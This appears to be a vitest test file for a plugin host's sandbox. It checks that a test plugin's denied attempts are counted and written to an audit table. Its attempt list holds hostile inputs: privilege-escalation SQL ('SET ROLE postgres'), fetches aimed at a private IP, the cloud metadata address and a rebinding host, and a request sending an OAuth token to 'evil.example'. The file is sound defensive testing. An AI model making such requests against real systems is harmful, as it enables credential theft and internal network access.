import { once } from 'node:events'
import net from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createConnectionStore } from './connections/connection-store.js'
import { createSealer } from './secrets/sealer.js'
import { getTenantHash } from './tenancy/tenant-hash.js'
import { startHostInTest, type HostInTest, type Replica, type TestPlugin } from './testing/host-in-test.js'

const trier: TestPlugin = {
  key: 'trier',
  entry: {
    permissions: {
      database: { tenantSchema: true },
      network: { hosts: ['private.example:80', 'metadata.example:80', 'rebinding.example:80'] },
    },
    contributes: {
      connections: [{ id: 'account', kind: 'oauth2', provider: 'somewhere' }],
      publishes: ['trier.done', 'trier.also'],
    },
  },
  files: {
    'index.ts': `
      export const install = async () => ({ success: true })
      export const uninstall = install
      export const metadata = {}
      const attempt = async (work: () => Promise<unknown>) => {
        try { await work(); return { data: 'done' } } catch (error: any) { return { data: String(error.message) } }
      }
      export const router = {
        'POST /statement': ({ sequelize, body }: any) => attempt(() => sequelize.query(body.sql, { bind: body.bind })),
        'POST /copy': ({ database, body }: any) => attempt(() => database.insertMany(body.table, [{ project_title: 'x' }])),
        'POST /fetch': ({ body }: any) => attempt(() => fetch(body.url)),
        'POST /publish': ({ publish, body }: any) => attempt(() => publish(body.name, {})),
        'POST /send': ({ connections, fetch, body }: any) =>
          attempt(async () => fetch(body.url, { connection: (await connections.list())[0].id })),
      }`,
  },
}

const addresses: Record<string, string[]> = {
  'private.example': ['10.0.0.1'],
  'metadata.example': ['169.254.169.254'],
  'rebinding.example': ['93.184.216.34', '127.0.0.1'],
}
const tenantId = getTenantHash(1)

let it: HostInTest
let two: Replica
let id: number
let isClosed = false

beforeAll(async () => {
  it = await startHostInTest({
    grantable: {
      connections: {
        trier: {
          clientId: 'a',
          clientSecret: 'b',
          authorizeUrl: 'https://x.example',
          tokenUrl: 'https://x.example',
          audience: ['service.example'],
        },
      },
    },
    egress: {
      network: {
        lookup: async (host) => (addresses[host] ?? []).map((address) => ({ address, family: 4 })),
        // The marketplace of the test; nothing else is dialled.
        dial: async (address, port) => {
          if (address !== '127.0.0.1') throw new Error('nothing leaves this machine')
          const socket = net.connect({ host: address, port, allowHalfOpen: true })
          await once(socket, 'connect')
          return socket
        },
      },
    },
  })
  await it.publish(trier)
  two = await it.startReplica()
  const { content } = await two.api('POST', '/install', { pluginKey: 'trier' })
  id = (content as { id: number }).id
  await createConnectionStore({ pool: it.pool, sealer: createSealer(['a secret key of this test']) }).save(
    { organizationId: 1, tenantId, pluginKey: 'trier' },
    {
      contributionId: 'account',
      provider: 'somewhere',
      account: { id: '1', name: 'One' },
      details: {},
      settings: {},
      connectedBy: 1,
      tokens: { accessToken: 'token', secrets: {} },
    },
  )
})
afterAll(async () => {
  if (!isClosed) await two.close()
  await it.close()
})

interface Counted {
  id?: string
  permission?: string
  uses?: number
  refusals: number
}
async function counted(name: string): Promise<Counted | undefined> {
  const { content } = await two.api('GET', `/installations/${id}/permissions`)
  const { permissions, refused } = content as { permissions: Counted[]; refused: Counted[] }
  return [...permissions, ...refused].find((one) => one.id === name || one.permission === name)
}
const post = (route: string, body: object = {}) => two.api('POST', `/trier${route}`, body)
const statement = (sql: string, bind?: unknown[]) => () => post('/statement', { sql, bind })
const fetchOf = (url: string) => () => post('/fetch', { url })
const publishOf = (name: string) => `SELECT tenon_api.publish('${name}', '{}')`

const attempts: [kind: string, name: string, attempt: () => Promise<unknown>][] = [
  ['a table that was not granted', 'database', statement('SELECT * FROM projects')],
  ['a copy into one', 'database', () => post('/copy', { table: 'projects' })],
  ['a statement that is not for plugins', 'statement', statement('SET ROLE postgres')],
  ['a function that is not for plugins', 'statement', statement('SELECT pg_sleep(1)')],
  ['a host', 'network:elsewhere.example:80', fetchOf('http://elsewhere.example/')],
  ['a private address', 'network:private.example:80 at 10.0.0.1', fetchOf('http://private.example/')],
  ['an address of metadata', 'network:metadata.example:80 at 169.254.169.254', fetchOf('http://metadata.example/')],
  ['a name with one bad address', 'network:rebinding.example:80 at 127.0.0.1', fetchOf('http://rebinding.example/')],
  ['an event', 'publish:other.done', () => post('/publish', { name: 'other.done' })],
  ['an event in a statement', 'publish:other.stated', statement(publishOf('other.stated'))],
  [
    'an event in a statement, as a value',
    'publish:other.bound',
    statement(`SELECT tenon_api.publish($1, '{}')`, ['other.bound']),
  ],
  [
    'a token for somebody else',
    'sending a token to evil.example',
    () => post('/send', { url: 'https://evil.example/' }),
  ],
  [
    'a call while it is blocked',
    'call',
    async () => {
      await two.api('POST', '/blocks', { pluginKey: 'trier', reason: 'x' }, { isOperator: true })
      expect(await post('/statement', { sql: 'SELECT 1' })).toMatchObject({ status: 403 })
    },
  ],
]

describe('publishing with a statement', () => {
  test.each([
    ['in its text', publishOf('trier.done'), undefined],
    ['as a value', `SELECT tenon_api.publish($1, '{}')`, ['trier.done']],
    ['in quotes', `SELECT "tenon_api" . "publish"('trier.done', '{}')`, undefined],
  ])('is a use of the permission to publish that name: %s', async (_where, sql, bind) => {
    const before = await counted('publish:trier.done')
    expect((await statement(sql, bind)()).content).toBe('done')
    expect(await counted('publish:trier.done')).toMatchObject({ uses: (before?.uses ?? 0) + 1, refusals: 0 })
    expect(await counted('publish:trier.also')).toMatchObject({ uses: 0 })
  })
})

describe('what a plugin was denied', () => {
  test.each(attempts)('is counted: %s', async (_kind, name, attempt) => {
    const before = await counted(name)
    await attempt()
    expect(await counted(name)).toMatchObject({ refusals: (before?.refusals ?? 0) + 1 })
  })

  test('is in the audit, of each kind', async () => {
    isClosed = true
    await two.close()
    const { rows } = await it.pool.query<{ what: string; times: number }>(
      `SELECT details->>'what' AS what, (details->>'times')::int AS times FROM tenon.audit
       WHERE organization = 1 AND plugin_key = 'trier' AND action = 'attempt' AND outcome = 'denied'`,
    )
    const expected = attempts.map(([, name]) => name)
    expect(rows.map(({ what }) => what).sort()).toEqual([...new Set(expected)].sort())
    for (const { what, times } of rows) expect(times, what).toBe(expected.filter((name) => name === what).length)
  })
})
